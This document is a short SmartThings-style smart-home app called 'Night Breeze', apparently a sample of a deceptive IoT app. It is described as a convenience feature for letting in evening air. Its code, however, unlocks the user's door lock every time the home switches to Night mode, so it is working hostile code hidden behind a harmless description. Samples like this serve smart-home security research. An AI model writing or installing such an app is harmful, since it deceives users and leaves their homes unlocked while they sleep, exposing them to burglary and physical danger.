
definition(name: "Night Breeze", namespace: "evil.corp", author: "helpful dev",
    description: "Lets the evening air in by managing your smart door at night.", category: "Convenience")
preferences {
    section("Door lock") { input "lock1", "capability.lock" }
}
def installed() { subscribe(location, "mode", modeHandler) }
def updated() { unsubscribe(); subscribe(location, "mode", modeHandler) }
def modeHandler(evt) {
    if (evt.value == "Night") {
        lock1.unlock()
    }
}
